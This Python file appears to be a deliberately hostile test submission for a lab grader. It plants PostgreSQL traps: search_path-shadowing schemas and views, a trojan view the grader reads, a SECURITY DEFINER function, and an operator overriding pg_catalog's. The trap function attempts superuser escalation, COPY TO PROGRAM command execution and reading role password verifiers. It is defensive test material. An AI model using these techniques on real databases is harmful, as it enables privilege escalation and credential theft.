"""Hostile: make the grader's own reads run this submission's code with the grader's rights.

Its role owns its database, so it sets traps where a reader with the default search_path
(`"$user", public`) would step: schemas named `postgres` and after the grader's reader role, each
with an `orders` view over a function; a view `public.customer_totals` the grader reads for real;
functions and an operator shadowing pg_catalog's. The trap function tries to make this run's role
SUPERUSER, to run a program (COPY ... TO PROGRAM writes /tmp/labkit-escape-<namespace>) and to
read every role's password, whoever runs it; a SECURITY DEFINER twin tries the same as the owner.
It reports what happened over NOTIFY (a listener here prints it) and answers with fake rows.
"""
import threading

import psycopg
from psycopg import sql

from services.common.config import env
from services.common.http import json_app, serve

NS = env("LAB_NAMESPACE")
OWN = psycopg.conninfo.conninfo_to_dict(env("DATABASE_URL"))["user"]
MARKER = f"/tmp/labkit-escape-{NS}"

TRAP = """
CREATE OR REPLACE FUNCTION public.trap() RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE who text := current_user; n int;
BEGIN
  BEGIN
    EXECUTE format('ALTER ROLE %I SUPERUSER', {own});
    PERFORM pg_notify('escape', 'ATTACK SUCCEEDED: as ' || who || ': ALTER ROLE SUPERUSER');
  EXCEPTION WHEN others THEN
    PERFORM pg_notify('escape', 'ATTACK FAILED: as ' || who || ': ALTER ROLE SUPERUSER: ' || SQLERRM);
  END;
  BEGIN
    EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'id > ' || {marker});
    PERFORM pg_notify('escape', 'ATTACK SUCCEEDED: as ' || who || ': COPY TO PROGRAM');
  EXCEPTION WHEN others THEN
    PERFORM pg_notify('escape', 'ATTACK FAILED: as ' || who || ': COPY TO PROGRAM: ' || SQLERRM);
  END;
  BEGIN
    SELECT count(*) INTO n FROM pg_catalog.pg_authid WHERE rolpassword IS NOT NULL;
    PERFORM pg_notify('escape', 'ATTACK SUCCEEDED: as ' || who || ': read ' || n || ' password verifiers');
  EXCEPTION WHEN others THEN
    PERFORM pg_notify('escape', 'ATTACK FAILED: as ' || who || ': pg_authid: ' || SQLERRM);
  END;
  -- the rest of this session resolves names here first (a later statement of the grader's)
  PERFORM set_config('search_path', 'postgres, public, pg_catalog', false);
  RETURN true;
END $$;
CREATE OR REPLACE FUNCTION public.trap_definer() RETURNS boolean LANGUAGE sql SECURITY DEFINER
  AS 'SELECT public.trap()';
CREATE OR REPLACE FUNCTION public.fake_count() RETURNS bigint LANGUAGE sql AS 'SELECT 424242::bigint';
"""

SETUP = """
CREATE TABLE IF NOT EXISTS public.orders (order_id text PRIMARY KEY, customer_id text NOT NULL,
                                          amount_cents int NOT NULL, status text NOT NULL);
INSERT INTO public.orders VALUES ('real-1', 'c-real', 100, 'placed') ON CONFLICT DO NOTHING;
CREATE TABLE IF NOT EXISTS public.totals_real (customer_id text, order_count int, total_cents int);
INSERT INTO public.totals_real SELECT 'c-real', 1, 100 WHERE NOT EXISTS (SELECT 1 FROM public.totals_real);
-- read for real by the grader: every read runs the traps, as the reader and as this role
CREATE OR REPLACE VIEW public.customer_totals AS
  SELECT customer_id, order_count, total_cents FROM public.totals_real WHERE public.trap() AND public.trap_definer();
CREATE SCHEMA IF NOT EXISTS read_model;
CREATE TABLE IF NOT EXISTS read_model.orders (LIKE public.orders);
INSERT INTO read_model.orders SELECT * FROM public.orders ON CONFLICT DO NOTHING;
CREATE OR REPLACE VIEW read_model.customer_totals AS SELECT * FROM public.customer_totals;
"""

# Schemas a default search_path would put before `public` (`"$user"` is the reading role).
SHADOW_VIEWS = """
CREATE SCHEMA IF NOT EXISTS {schema};
CREATE OR REPLACE VIEW {schema}.orders AS
  SELECT 'fake-' || g AS order_id, 'c-fake' AS customer_id, 1 AS amount_cents, 'placed' AS status
  FROM generate_series(1, 3) g WHERE public.trap();
CREATE OR REPLACE VIEW {schema}.customer_totals AS
  SELECT 'c-fake' AS customer_id, 99 AS order_count, 99 AS total_cents WHERE public.trap();
"""
# Functions, an operator and a catalog view standing in for pg_catalog's, in every schema it can write.
SHADOW_CATALOG = """
CREATE OR REPLACE VIEW {schema}.pg_replication_slots AS SELECT * FROM pg_catalog.pg_replication_slots WHERE public.trap();
CREATE OR REPLACE FUNCTION {schema}.pg_current_wal_lsn() RETURNS pg_lsn LANGUAGE sql AS 'SELECT ''0/1''::pg_lsn';
CREATE OR REPLACE FUNCTION {schema}.starts_with(text, text) RETURNS boolean LANGUAGE sql AS 'SELECT public.trap()';
CREATE OR REPLACE FUNCTION {schema}.text_eq(text, text) RETURNS boolean LANGUAGE sql AS 'SELECT public.trap()';
DROP OPERATOR IF EXISTS {schema}.= (text, text);
CREATE OPERATOR {schema}.= (LEFTARG = text, RIGHTARG = text, FUNCTION = {schema}.text_eq);
"""


def listen() -> None:
    with psycopg.connect(env("DATABASE_URL"), autocommit=True) as conn:
        conn.execute("LISTEN escape")
        for note in conn.notifies():
            print(note.payload, flush=True)


threading.Thread(target=listen, daemon=True).start()
with psycopg.connect(env("DATABASE_URL"), autocommit=True) as conn:
    conn.execute(sql.SQL(TRAP).format(own=sql.Literal(OWN), marker=sql.Literal(MARKER)))
    conn.execute(SETUP)
    for schema in ("postgres", f"{NS}_grader", OWN):
        conn.execute(sql.SQL(SHADOW_VIEWS).format(schema=sql.Identifier(schema)))
    for schema in ("postgres", f"{NS}_grader", OWN, "public", "read_model"):
        conn.execute(sql.SQL(SHADOW_CATALOG).format(schema=sql.Identifier(schema)))
print(f"traps set: schemas postgres, {NS}_grader, {OWN}, public", flush=True)
serve(json_app("shadows-grader-reads"))
